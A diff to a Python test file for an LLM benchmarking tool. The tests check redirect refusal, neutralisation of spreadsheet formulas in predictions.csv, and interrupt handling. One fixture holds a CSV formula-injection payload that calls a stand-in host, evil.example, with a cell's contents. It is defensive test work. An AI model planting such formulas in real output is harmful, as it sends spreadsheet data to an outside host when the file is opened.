@@ -441,9 +441,8 @@ def test_an_unwritable_cache_is_one_line_before_anything_runs(tmp_path, monkeypa
 # --- 6. a redirect to another host is refused --------------------------------------------------------------
 
 def test_a_cross_origin_redirect_is_refused_and_the_other_host_never_asked(tmp_path, env):
-    from fake_openai import FakeOpenAI, Reply, correct, llm_experiment, llm_options
+    from fake_openai import FakeOpenAI, Reply, correct, llm_experiment, llm_options, ask
 
-    from ferbench.llm.query import run_llm_experiment
     from ferbench.store import RunStore
 
     split, truth = env
@@ -451,24 +450,23 @@ def test_a_cross_origin_redirect_is_refused_and_the_other_host_never_asked(tmp_p
         moved = {"Location": other.base_url.rstrip("/") + "/chat/completions"}
         with FakeOpenAI(lambda n, sha, body: Reply(status=307, headers=moved)) as srv:
             exp = llm_experiment(model="m", base_url=srv.base_url, per_class=1)
-            res = run_llm_experiment(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
-    assert res["status"] == "failed" and "redirected to another host" in res["error"], res.get("error")
+            res = ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
+    assert res.status == "failed" and "redirected to another host" in res.error, res.error
     assert other.requests == [] and other.http_log == []
 
 
 # --- 7. (LLM answers) a formula answer is inert in predictions.csv and kept verbatim in the journal -------
 
 def test_a_formula_answer_is_neutralised_in_predictions_and_kept_raw_in_the_journal(tmp_path, env):
-    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options
+    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options, ask
 
-    from ferbench.llm.query import run_llm_experiment
     from ferbench.store import RunStore, read_predictions
 
     split, truth = env
     evil = '=HYPERLINK("http://evil.example/?"&A1, "open")'
     with FakeOpenAI(lambda n, sha, body: Reply(evil)) as srv:
         exp = llm_experiment(model="m", base_url=srv.base_url, per_class=1)
-        run_llm_experiment(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
+        ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
     folder = tmp_path / "r" / "s.llm.m"
     raw_cells = [c for row in csv.reader(io.StringIO((folder / "predictions.csv").read_text())) for c in row]
     assert "'" + evil in raw_cells and evil not in raw_cells
@@ -491,9 +489,8 @@ def _interrupt_after(seconds: float):
 
 
 def test_ctrl_c_during_llm_queries_stops_sending_at_once(tmp_path, env):
-    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options
+    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options, ask
 
-    from ferbench.llm.query import run_llm_experiment
     from ferbench.store import RunStore
 
     split, truth = env
@@ -502,7 +499,7 @@ def test_ctrl_c_during_llm_queries_stops_sending_at_once(tmp_path, env):
         timer = _interrupt_after(1.0)
         try:
             with pytest.raises(KeyboardInterrupt):
-                run_llm_experiment(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
+                ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
         finally:
             timer.cancel()
         sent_at_interrupt_return = len(srv.requests)
